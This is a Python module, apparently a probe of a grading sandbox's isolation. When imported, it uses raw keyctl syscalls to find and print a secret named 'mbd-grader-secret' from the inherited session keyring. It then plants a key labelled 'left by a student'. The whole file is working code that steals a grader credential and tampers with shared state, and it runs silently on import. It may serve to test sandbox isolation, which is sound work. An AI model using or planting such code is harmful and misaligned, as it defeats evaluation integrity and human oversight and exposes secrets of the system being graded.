"""At import, reads the secret that the grader keeps in its session keyring (inherited by every process it starts,
whatever their uid), and leaves a key of its own there."""
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_KEYCTL, _ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}[os.uname().machine]
_SESSION, _SEARCH, _READ = -3, 10, 11


def _keyctl(*args):
    found = _libc.syscall(ctypes.c_long(_KEYCTL), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return found, os.strerror(ctypes.get_errno()) if found < 0 else ""


_key, _why = _keyctl(_SEARCH, _SESSION, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"mbd-grader-secret"), 0)
if _key > 0:
    _buffer = ctypes.create_string_buffer(256)
    _size, _why = _keyctl(_READ, _key, _buffer, 256)
    print("keyring: read the secret", _buffer.raw[:max(_size, 0)].decode(errors="replace"))
else:
    print("keyring: no secret:", _why)
_payload = b"left by a student"
_left = _libc.syscall(ctypes.c_long(_ADD_KEY), ctypes.c_char_p(b"user"), ctypes.c_char_p(b"mbd-student-key"),
                      ctypes.c_char_p(_payload), ctypes.c_long(len(_payload)), ctypes.c_long(_SESSION))
print("keyring: left a key" if _left > 0 else f"keyring: could not leave a key: {os.strerror(ctypes.get_errno())}")
